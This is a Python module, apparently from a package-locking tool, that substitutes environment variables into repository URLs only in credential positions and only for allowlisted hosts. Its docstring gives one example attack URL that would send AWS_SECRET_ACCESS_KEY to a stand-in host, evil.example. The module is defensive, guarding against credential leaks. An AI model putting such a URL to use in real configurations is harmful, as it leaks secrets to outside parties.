"""Variables in URLs: put in only where a credential stands, and only for hosts that this machine allows.

A repository may name any variable. Put in anywhere, ``https://evil.example/${AWS_SECRET_ACCESS_KEY}/simple`` would
send it to whom the repository likes.
"""

from __future__ import annotations

import os
import re

from mixlock_hooks.model.failure import EngineError, EngineFailure, FailureKind
from mixlock_hooks.model.urls import complaint, host_of
from mixlock_hooks.shell.machine_config import credential_hosts

ALLOWED_HOSTS = "MIXLOCK_CREDENTIAL_HOSTS"
"""The variable of a CI that lists hosts, with commas, which may be sent what a URL's variables hold."""
_VARIABLE = re.compile(r"\$\{(\w+)\}|\$(\w+)")
_PLACES = re.compile(r"(?<=://)[^/?#]+(?=@)|(?<=/t/)[^/?#]+")
"""Where a URL carries a credential: the user part, and conda's ``/t/TOKEN/``."""


def with_variables(url: str) -> str:
    """Return a URL with the values of the variables that stand in its user part or conda token.

    Raises:
        EngineError: a variable stands elsewhere, is not set, or may not be sent to that host.
    """
    if not _VARIABLE.search(url):
        return url
    why = complaint(url)
    if why:
        raise _refused(url, f"holds a variable and {why}: nobody can tell to which host it would be sent")
    if _VARIABLE.search(_PLACES.sub("", url)):
        raise _refused(url, "holds a variable where no credential stands: only its user part and `/t/TOKEN/` may")
    host = host_of(url)
    if host not in _allowed():
        raise _refused(
            url,
            f"holds a variable, and this machine does not allow {host} to be sent one: list the host under "
            f'`[credentials]` in the machine\'s config.toml (`hosts = ["{host}"]`), or in {ALLOWED_HOSTS}',
        )
    return _PLACES.sub(lambda place: _VARIABLE.sub(lambda found: _value(url, found), place.group()), url)


def _allowed() -> frozenset[str]:
    named = os.environ.get(ALLOWED_HOSTS, "")
    return credential_hosts() | {host.strip().lower() for host in named.split(",") if host.strip()}


def _value(url: str, found: re.Match[str]) -> str:
    value = os.environ.get(found[1] or found[2])
    if value is None:
        raise _refused(url, "names a variable that is not set")
    return value


def _refused(url: str, words: str) -> EngineError:
    return EngineError(EngineFailure(kind=FailureKind.VARIABLE, package=url, words=words))
